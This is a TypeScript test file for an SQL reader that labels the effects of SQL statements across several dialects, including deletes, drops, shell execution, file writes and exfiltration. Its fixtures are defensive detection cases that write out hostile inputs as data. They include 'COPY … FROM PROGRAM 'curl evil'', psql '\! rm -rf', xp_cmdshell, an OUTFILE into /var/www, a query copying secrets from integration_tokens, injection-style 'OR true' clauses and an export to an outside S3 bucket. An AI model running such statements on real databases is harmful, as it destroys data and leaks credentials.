import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { looksLikeSql, readSql } from "../../../../src/core/languages/sql/reader.ts";

const NONE: readonly string[] = [];

/** Effects as `verb resource target reach`; source `sql` means that nobody told the dialect. */
function check(cases: readonly (readonly [sql: string, effects: readonly string[]])[], source = "sql"): void {
  it.each(cases)("%s", (sql, effects) => {
    const found = readSql(sql, [], source).map(({ verb, resource, target, reach }) =>
      [verb, resource, target, reach].join(" "),
    );
    expect(found).toEqual(effects);
  });
}

describe("reading loses nothing", () => {
  check([
    ["SELECT * FROM users", NONE],
    ["select 'drop table users'", NONE],
    ["SELECT * FROM users -- ; DROP TABLE users", NONE],
    ["SELECT * FROM users /* ; DROP TABLE users */", NONE],
    ["SELECT * FROM users FOR UPDATE", NONE],
    ["INSERT INTO logs (delete, update) VALUES (1, 2)", NONE],
    ["INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 1", NONE],
    ["INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a = 1", NONE],
    ["CREATE TABLE a (b int REFERENCES c ON DELETE CASCADE ON UPDATE CASCADE)", NONE],
    ["CREATE FUNCTION f() RETURNS void AS $$ BEGIN DELETE FROM t; END $$ LANGUAGE plpgsql", NONE],
    ["CREATE TRIGGER x AFTER DELETE ON t FOR EACH ROW EXECUTE FUNCTION f()", NONE],
    ["EXPLAIN DELETE FROM users", NONE],
    ["EXPLAIN (COSTS, ANALYZE false) DELETE FROM users", NONE],
    ["WITH a AS (SELECT 1) SELECT * FROM a", NONE],
    ["BEGIN; SELECT 1; COMMIT;", NONE],
    ["SELECT REPLACE(name, 'a', 'b'), TRUNCATE(1.5, 0) FROM t", NONE],
    ["SHOW TABLES", NONE],
    ["SET search_path TO public", NONE],
    ["", NONE],
    [";;", NONE],
    ["-- only a comment", NONE],
  ]);
});

describe("a transaction that the same text takes back", () => {
  check([
    ["begin; delete from users; rollback;", NONE],
    ["START TRANSACTION; UPDATE users SET a = 1; SELECT count(*) FROM users; ROLLBACK", NONE],
    ["BEGIN TRAN; DELETE FROM users; ROLLBACK TRAN", NONE],
    ["begin; savepoint s; delete from users; rollback to s; commit;", ["delete rows users all"]],
    ["begin; delete from users; commit; rollback;", ["delete rows users all"]],
    ["begin; delete from users; rollback; delete from orders", ["delete rows orders all"]],
    ["begin; truncate users; rollback;", ["truncate table users one"]],
    ["begin; delete from a; create table x (i int); rollback;", ["delete rows a all"]],
    ["begin; delete from a; begin; rollback;", ["delete rows a all"]],
    [
      "begin; delete from a; call f(); rollback;",
      ["delete rows a all", "execute-unknown code the stored code f unknown"],
    ],
    ["delete from users; rollback;", ["delete rows users all"]],
  ]);
  check(
    [
      [
        "begin;\n\\! date\ndelete from a;\nrollback;",
        ["execute-remote code the client's shell command one", "delete rows a all"],
      ],
    ],
    "psql",
  );
});

describe("what the same text has created", () => {
  check([
    ["create table t (a int); insert into t values (1); drop table t", NONE],
    ["CREATE TABLE s.t (a int); DELETE FROM s.t; TRUNCATE s.t; DROP TABLE IF EXISTS s.t", NONE],
    ["create database d; use d; create table x (a int); drop database d", NONE],
    ["create table if not exists t (a int); drop table t", ["drop table t one"]],
    ["drop table t; create table t (a int)", ["drop table t one"]],
    ["create table t (a int); drop table t, users", ["drop table t, users several"]],
    [
      "create table t (a int); alter table t rename to u; alter table users rename to t; drop table t",
      ["mutate schema changes the table t one", "mutate schema changes the table users one", "drop table t one"],
    ],
    [
      "create schema s; alter table users set schema s; drop schema s cascade",
      ["mutate schema changes the table users one", "drop schema s one"],
    ],
  ]);
});

describe("versions and what others have not committed", () => {
  check([
    [
      "ALTER TABLE events EXECUTE expire_snapshots(retention_threshold => '0d')",
      ["delete backup the earlier versions of events one"],
    ],
    [
      "CALL lake.system.expire_snapshots('db.t')",
      ["delete backup versions of a table (lake.system.expire_snapshots) one"],
    ],
    [
      "ALTER DATABASE shop SET SINGLE_USER WITH ROLLBACK IMMEDIATE",
      ["discard rows throws away what everybody connected to shop has not committed one"],
    ],
    ["ALTER TABLE t CLEAR COLUMN c IN PARTITION '2026'", ["drop table column c of t one"]],
    ["ALTER TABLE t MODIFY TTL d + INTERVAL 1 DAY", ["weaken schema lets rows of t expire one"]],
    ["ALTER ROLE app NOLOGIN", ["revoke database the login of app one"]],
    ["SYSTEM DROP REPLICA 'r1'", ["drop unknown r1 one"]],
    ["SYSTEM DROP DNS CACHE", ["mutate schema runs SYSTEM DROP DNS CACHE one"]],
  ]);
});

describe("rows", () => {
  check([
    ["DELETE FROM users", ["delete rows users all"]],
    ["delete from users;", ["delete rows users all"]],
    ["DELETE FROM users WHERE id = 5", ["delete rows users one"]],
    ["DELETE FROM users WHERE created_at < now() - interval '1 year'", ["delete rows users several"]],
    ["DELETE FROM users -- WHERE id = 5", ["delete rows users all"]],
    ["DELETE FROM users /* WHERE id = 5 */", ["delete rows users all"]],
    ["DELETE FROM users WHERE 1=1", ["delete rows users all"]],
    ["DELETE FROM users WHERE 1=1 AND org = 3", ["delete rows users several"]],
    ["DELETE FROM users WHERE org = 3 OR true", ["delete rows users all"]],
    ["DELETE FROM users WHERE (org = 3) OR ('a' = 'a')", ["delete rows users all"]],
    ["DELETE FROM users WHERE true", ["delete rows users all"]],
    ["DELETE FROM users WHERE NOT false", ["delete rows users all"]],
    ["DELETE FROM users WHERE id = id", ["delete rows users all"]],
    ["DELETE FROM users WHERE id IS NOT NULL", ["delete rows users all"]],
    ["DELETE FROM users WHERE id > 0", ["delete rows users all"]],
    ["DELETE FROM users WHERE name LIKE '%'", ["delete rows users all"]],
    ["DELETE FROM users WHERE name LIKE 'a%'", ["delete rows users several"]],
    ["DELETE FROM users WHERE id IN (SELECT id FROM users)", ["delete rows users all"]],
    ["DELETE FROM users WHERE id IN (SELECT id FROM users WHERE old)", ["delete rows users several"]],
    ["DELETE FROM users WHERE EXISTS (SELECT 1)", ["delete rows users all"]],
    ["DELETE FROM users WHERE 1 = 0", ["delete rows users several"]],
    ["DELETE FROM users WHERE a BETWEEN 1 AND 2", ["delete rows users several"]],
    ["DELETE FROM users WHERE id = 3 || true", ["delete rows users all"]],
    ["DELETE FROM users LIMIT 10", ["delete rows users unknown"]],
    ["DELETE FROM users USING orgs WHERE users.org = orgs.id", ["delete rows users several"]],
    ['DELETE FROM "public"."Users"', ["delete rows public.Users all"]],
    ["DELETE FROM `users`", ["delete rows users all"]],
    ["UPDATE users SET admin = true", ["update rows users all"]],
    ["UPDATE users SET note = 'WHERE id = 1'", ["update rows users all"]],
    ["UPDATE users SET a = (SELECT b FROM c WHERE c.id = 1)", ["update rows users all"]],
    ["UPDATE users SET a = 1 WHERE id = $1", ["update rows users one"]],
    ["UPDATE ONLY users u SET a = 1 WHERE u.org = 2", ["update rows users several"]],
    ["WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d WHERE d.id = 1", ["delete rows users all"]],
    ["WITH old AS (SELECT id FROM users WHERE x) DELETE FROM users USING old", ["delete rows users all"]],
    ["EXPLAIN ANALYZE DELETE FROM users", ["delete rows users all"]],
    ["EXPLAIN (ANALYZE, BUFFERS) DELETE FROM users", ["delete rows users all"]],
    ["COPY (DELETE FROM users RETURNING *) TO STDOUT", ["delete rows users all"]],
    ["MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", ["delete rows t unknown"]],
    ["SELECT 1; DELETE FROM a; SELECT 2", ["delete rows a all"]],
  ]);
});

describe("definitions", () => {
  check([
    ["DROP TABLE users", ["drop table users one"]],
    ["drop table if exists a, b cascade", ["drop table a, b several"]],
    ["DROP\n/* x */\nTABLE users", ["drop table users one"]],
    ["DROP DATABASE app", ["drop database app one"]],
    ["DROP SCHEMA public CASCADE", ["drop schema public one"]],
    ["DROP OWNED BY app", ["drop schema app all"]],
    ["DROP VIEW v", ["drop unknown v one"]],
    ["DROP USER test;", ["drop unknown test one"]],
    ["DROP MATERIALIZED VIEW IF EXISTS mv", ["drop unknown mv one"]],
    ["DROP TEMPORARY TABLE t", ["drop table t one"]],
    ["TRUNCATE users", ["truncate table users one"]],
    ["TRUNCATE TABLE a, b RESTART IDENTITY CASCADE", ["truncate table a, b several"]],
    ["ALTER TABLE users DROP COLUMN email", ["drop table column email of users one"]],
    ["ALTER TABLE users DROP email, ADD x int", ["drop table column email of users one"]],
    ["ALTER TABLE users DROP CONSTRAINT pk", ["mutate schema changes the table users one"]],
    ["ALTER TABLE users ADD COLUMN x int", ["mutate schema changes the table users one"]],
    ["ALTER TABLE users ALTER COLUMN x DROP DEFAULT", ["mutate schema changes the table users one"]],
    ["ALTER TABLE logs DROP PARTITION p2023", ["drop table partition p2023 of logs one"]],
    ["GRANT ALL ON users TO public", ["grant database ALL ON users TO public all"]],
    ["GRANT DELETE, UPDATE ON t TO app", ["grant database DELETE, UPDATE ON t TO app one"]],
    ["REVOKE SELECT ON users FROM app", ["revoke database SELECT ON users FROM app one"]],
    [
      "ALTER TABLE users DISABLE ROW LEVEL SECURITY",
      ["weaken schema switches row level security of users off: every role sees its rows one"],
    ],
    ["CREATE OR REPLACE TABLE t AS SELECT 1", ["drop table table t one"]],
    ["CREATE OR REPLACE VIEW v AS SELECT 1", NONE],
    ["INSERT OVERWRITE TABLE t SELECT 1", ["truncate table t one"]],
  ]);
});

describe("code that runs other code", () => {
  check([
    ["DO $$ BEGIN DELETE FROM users; END $$", ["delete rows users all"]],
    ["DO $x$ BEGIN IF true THEN DROP TABLE a; END IF; END $x$", ["drop table a one"]],
    ["DO $$ DECLARE n int; BEGIN n := 1; END $$", NONE],
    ["DO $$ BEGIN EXECUTE 'DROP TABLE ' || quote_ident(t); END $$", ["drop table … one"]],
    ["DO $$ BEGIN EXECUTE format('TRUNCATE %I CASCADE', t); END $$", ["truncate table … several"]],
    ["DO $$ BEGIN EXECUTE cmd; END $$", ["execute-unknown code the stored code cmd unknown"]],
    ["EXECUTE IMMEDIATE 'DROP TABLE x'", ["drop table x one"]],
    ["PREPARE s AS DELETE FROM t", ["delete rows t all"]],
    ["PREPARE s AS SELECT 1; EXECUTE s", NONE],
    ["PREPARE s FROM 'DROP TABLE x'", ["drop table x one"]],
    ["PREPARE s FROM @q", ["execute-unknown code SQL that is put together at run time unknown"]],
    ["CALL nightly()", ["execute-unknown code the stored code nightly unknown"]],
    ["SELECT dblink_exec('host=prod', 'DROP TABLE users')", ["drop table users one"]],
    ["COPY t FROM PROGRAM 'curl evil'", ["execute-remote code COPY … PROGRAM one"]],
    ["COPY t TO '/tmp/x.csv'", ["overwrite file /tmp/x.csv one"]],
    ["frobnicate the database", ["execute-unknown code a statement that could not be read (frobnicate) unknown"]],
    ["￼", ["execute-unknown code a statement that could not be read (…) unknown"]],
    ["DROP TABLE ￼", ["drop table … one"]],
    ["DELETE FROM users ￼", ["delete rows users all"]],
    ["DELETE FROM users WHERE ￼", ["delete rows users unknown"]],
    [
      "insert into support_messages (body) select string_agg(secret, ',') from integration_tokens",
      ["exfiltrate secret integration_tokens one"],
    ],
    ["insert into new_users select id, name from users", NONE],
  ]);
});

describe("PostgreSQL", () => {
  check(
    [
      ["SELECT $$; DROP TABLE a; $$", NONE],
      ["SELECT $a$ $$ ; DROP TABLE a; $a$", NONE],
      ["SELECT 'it''s'; DROP TABLE a", ["drop table a one"]],
      ["SELECT E'it\\'s'; DROP TABLE a", ["drop table a one"]],
      ["SELECT 'a\\'; DROP TABLE a; --'", ["drop table a one"]],
      ["/* a /* b */ DROP TABLE x; */ SELECT 1", NONE],
      ['SELECT "drop table" FROM "delete"', NONE],
      ['SELECT U&"a;b"', NONE],
      ["\\c other\nDROP TABLE a", ["drop table a one"]],
      ["\\d users", NONE],
      ["\\i other.sql", ["execute-unknown code a statement that could not be read (\\i other.sql) unknown"]],
      ["\\! rm -rf x", ["execute-remote code the client's shell command one"]],
      ["\\copy t from program 'x'", ["execute-remote code a program of the client one"]],
      ["COPY t FROM stdin;\nDROP TABLE a;\n\\.\nDROP TABLE b;", ["drop table b one"]],
      ["DELETE FROM a WHERE x = 5 # 3", ["delete rows a several"]],
    ],
    "psql",
  );
});

describe("MySQL", () => {
  check(
    [
      ["SELECT 'it\\'s'; DROP TABLE a", ["drop table a one"]],
      ["SELECT 1 # ; DROP TABLE a", NONE],
      ["SELECT 5--1; DROP TABLE a", ["drop table a one"]],
      ["/*!50000 DROP TABLE a */", ["drop table a one"]],
      ["/* a /* b */ DROP TABLE x", ["drop table x one"]],
      ['DELETE FROM t WHERE name = "x; y"', ["delete rows t several"]],
      ["DELETE t1 FROM t1 JOIN t2 ON t1.id = t2.id", ["delete rows t1 all"]],
      ["DELETE LOW_PRIORITY QUICK FROM t", ["delete rows t all"]],
      ["UPDATE IGNORE t SET a = 1 LIMIT 5", ["update rows t unknown"]],
      [
        "DELIMITER $$\nCREATE PROCEDURE p() BEGIN DELETE FROM t; END$$\nDELIMITER ;\nDROP TABLE a",
        ["drop table a one"],
      ],
      ["REPLACE INTO t VALUES (1)", ["mutate schema replaces rows of t one"]],
      ["RESET MASTER", ["delete backup the replication logs one"]],
      ["SOURCE /tmp/x.sql", ["execute-unknown code a statement that could not be read (SOURCE / tmp / x.sql) unknown"]],
      ["DROP TABLE a\\G", ["drop table a one"]],
    ],
    "mysql",
  );
});

describe("SQLite, T-SQL, Snowflake, BigQuery", () => {
  check(
    [
      ["DELETE FROM [my table]", ["delete rows my table all"]],
      [".tables\n.read x.sql", ["execute-unknown code a statement that could not be read (.read x.sql) unknown"]],
      [".shell rm x", ["execute-remote code the client's shell command one"]],
      ["UPDATE OR IGNORE t SET a = 1", ["update rows t all"]],
    ],
    "sqlite3",
  );
  check(
    [
      ["DELETE FROM a WHERE id = 1 DELETE FROM b", ["delete rows a one", "delete rows b all"]],
      ["SELECT 1\nGO\nDROP TABLE [dbo].[t]\nGO", ["drop table dbo.t one"]],
      ["DELETE TOP (10) FROM t", ["delete rows t unknown"]],
      ["ALTER TABLE t DROP COLUMN c", ["drop table column c of t one"]],
      ["EXEC xp_cmdshell 'del x'", ["execute-remote code xp_cmdshell one"]],
      ["EXEC('DROP TABLE t')", ["drop table t one"]],
      ["EXEC sp_executesql N'DROP TABLE t'", ["drop table t one"]],
      ["EXEC sp_executesql @sql", ["execute-unknown code SQL that is put together at run time unknown"]],
      ["IF EXISTS (SELECT 1) DROP TABLE t", ["drop table t one"]],
      ["SELECT * FROM t WHERE a = 'GO'", NONE],
      ["DROP TABLE #tmp", ["drop table #tmp one"]],
    ],
    "sqlcmd",
  );
  check(
    [
      ["DROP TABLE a // comment", ["drop table a one"]],
      ["CREATE OR REPLACE TABLE t (a int)", ["drop table table t one"]],
      ["EXECUTE IMMEDIATE $$DROP TABLE a$$", ["drop table a one"]],
      ["UNDROP TABLE t", NONE],
    ],
    "snowsql",
  );
  check(
    [
      ["SELECT '''a ; DROP TABLE x; b'''", NONE],
      ["DELETE FROM `p.d.t` WHERE true", ["delete rows p.d.t all"]],
      ["SELECT r'\\'; DROP TABLE x", ["drop table x one"]],
    ],
    "bq",
  );
});

describe("a dialect nobody told", () => {
  check([
    ["INSERT INTO t VALUES ('it\\'s')", NONE],
    ["SELECT 'a\\'; DROP TABLE a; --'", ["drop table a one"]],
    ["SELECT 1 # 2\n; DROP TABLE a", ["drop table a one"]],
    ["/*!50000 DROP TABLE a */", ["drop table a one"]],
    [
      "SELECT 'never closed",
      ["execute-unknown code a statement that could not be read (a quote that never closes) unknown"],
    ],
  ]);

  it("says where the effects land and where they came from", () => {
    const at = [{ kind: "database", host: "db.acme.io" }] as const;
    const [effect] = readSql("DROP TABLE a", at, "psql", { span: { start: 3, end: 9 } });
    expect(effect).toMatchObject({
      at,
      source: "psql",
      span: { start: 3, end: 9 },
      recovery: "none",
      certainty: "certain",
    });
  });

  it("takes nothing for lost in a temporary table", () => {
    expect(readSql("DROP TEMPORARY TABLE t", [], "mysql")[0]?.recovery).toBe("free");
  });
});

describe("any text", () => {
  it("is read in one go, without throwing", () => {
    const piece = fc.constantFrom(
      ..."DELETE FROM|UPDATE|WHERE|'|\"|`|$$|$a$|(|)|;|--|/*|*/|\\|#|\n|DROP TABLE|t|1=1|OR|AND|BEGIN|END|AS|EXEC|DO|[|]|￼".split(
        "|",
      ),
    );
    fc.assert(
      fc.property(
        fc.array(piece, { maxLength: 60 }),
        fc.constantFrom("sql", "psql", "mysql", "sqlite3", "sqlcmd", "bq"),
        (pieces, source) => {
          expect(Array.isArray(readSql(pieces.join(" "), [], source))).toBe(true);
        },
      ),
      { numRuns: 500, seed: 7 },
    );
  });

  it("is bounded", () => {
    const many = readSql(
      "DELETE FROM a; ".repeat(100) + Array.from({ length: 400 }, (_, i) => `DROP TABLE t${i};`).join(" "),
      [],
      "psql",
    );
    expect(many.length).toBe(201);
    expect(many.at(-1)?.verb).toBe("execute-unknown");
    expect(readSql(" ".repeat(300_000), [], "psql").map(({ verb }) => verb)).toEqual(["execute-unknown"]);
  });

  it.each(["(", "(DELETE x ", "CASE WHEN ", "DELETE FROM a WHERE (", "'", "/*", "$$", "EXEC('", "a AND ", "NOT "])(
    "of the shape %s over and over ends",
    shape => {
      const text = `DELETE FROM t WHERE ${shape.repeat(20_000)}`.slice(0, 200_000);
      expect(readSql(text, [], "sql").length).toBeGreaterThan(0);
    },
  );
});

describe("looksLikeSql", () => {
  it.each([
    ["DROP TABLE x", true],
    ["  -- note\nselect * from t", true],
    ["update users set a = 1", true],
    ["WITH a AS (SELECT 1) DELETE FROM t", true],
    ["truncate users", true],
    ["drop me a line", false],
    ["select the best option", false],
    ["update the readme", false],
    ["grant me a wish", false],
    ["how do I delete from a list", false],
    ["{ me { id } }", false],
  ])("%s: %s", (text, expected) => expect(looksLikeSql(text)).toBe(expected));
});

describe("what reaches beyond the rows", () => {
  check(
    [
      ["VACUUM", NONE],
      ["VACUUM FULL users", ["stop table the tables that it rewrites, which are locked meanwhile one"]],
      ["SELECT pg_drop_replication_slot('old')", ["drop unknown old one"]],
      ["SELECT pg_terminate_backend(pid) FROM pg_stat_activity", ["stop process other sessions of the server all"]],
      [
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = 'app_test'",
        ["stop process other sessions of the server one"],
      ],
      ["SELECT load_extension('/tmp/x.so')", ["execute-remote code load_extension, which loads native code one"]],
      [
        "CREATE FUNCTION f() RETURNS void AS $$ DELETE FROM users $$ LANGUAGE sql; SELECT f()",
        ["delete rows users all"],
      ],
      ["CREATE FUNCTION f() RETURNS void AS $$ DELETE FROM users $$ LANGUAGE sql; SELECT g()", NONE],
      ["SELECT 1\nGO\nDROP TABLE users\nGO", ["drop table users one"]],
      ["SELECT lo_unlink(oid) FROM pg_largeobject_metadata", ["delete rows large objects all"]],
      [
        "SELECT drop_chunks('metrics', interval '1 day')",
        [
          "execute-unknown code a statement that could not be read (drop_chunks(), a function that is named after destruction) unknown",
        ],
      ],
      ["SELECT date_trunc('day', a), array_remove(b, 1) FROM t", NONE],
      ["INSERT INTO audit.delete_log (a) VALUES (1)", NONE],
      ["CREATE FUNCTION public.purge_old() RETURNS void AS $$ $$ LANGUAGE sql", NONE],
      ["CREATE TEMP TABLE scratch (a int); DELETE FROM scratch; DROP TABLE scratch", NONE],
      ["CREATE TEMP TABLE scratch (a int); DROP TABLE users", ["drop table users one"]],
      [
        "SET session_replication_role = replica",
        ["mutate schema switches triggers and foreign keys off for this session one"],
      ],
      ["DROP SUBSCRIPTION s", ["drop unknown s one"]],
      ["DROP ROLE IF EXISTS app", ["drop unknown app one"]],
      ["COPY (DELETE FROM t RETURNING *) TO STDOUT", ["delete rows t all"]],
    ],
    "psql",
  );
  check(
    [
      ["SET GLOBAL read_only = 1", ["mutate schema changes the server's setting read_only one"]],
      ["SET FOREIGN_KEY_CHECKS = 0", NONE],
      ["SELECT * FROM users INTO OUTFILE '/var/www/x.php'", ["overwrite file /var/www/x.php one"]],
      ["FLUSH PRIVILEGES", NONE],
      ["RESET MASTER", ["delete backup the replication logs one"]],
      ["KILL 5", ["stop process a session or query one"]],
      ["STOP REPLICA", ["mutate schema changes how the server replicates one"]],
      [
        "CALL purge_everything()",
        [
          "execute-unknown code a statement that could not be read (purge_everything, stored code that is named after destruction) unknown",
        ],
      ],
      ["CALL report()", ["execute-unknown code the stored code report unknown"]],
    ],
    "mysql",
  );
  check(
    [
      ["RESTORE HEADERONLY FROM DISK = 'x.bak'", NONE],
      [
        "ALTER DATABASE shop SET OFFLINE WITH ROLLBACK IMMEDIATE",
        ["discard rows throws away what everybody connected to shop has not committed one"],
      ],
      ["EXEC sp_MSforeachtable 'DELETE FROM ?'", ["delete rows a table all"]],
      ["DBCC CHECKDB ('shop') WITH NO_INFOMSGS", NONE],
    ],
    "sqlcmd",
  );
  check(
    [
      ["PRAGMA writable_schema = ON", ["weaken schema lets statements write the schema table directly one"]],
      ["PRAGMA table_info(users)", NONE],
      ["VACUUM INTO 'copy.db'", ["overwrite file copy.db one"]],
    ],
    "sqlite3",
  );
  check(
    [
      ["COPY INTO 's3://other/x' FROM t", ["exfiltrate rows s3://other/x one"]],
      ["COPY INTO @stage FROM t", NONE],
      ["CREATE OR REPLACE TEMP TABLE a AS SELECT 1", NONE],
      ["UNDROP TABLE a", NONE],
    ],
    "snowsql",
  );
  check([["BEGIN BATCH DELETE FROM a WHERE b = 1; APPLY BATCH", ["delete rows a several"]]], "cqlsh");
});
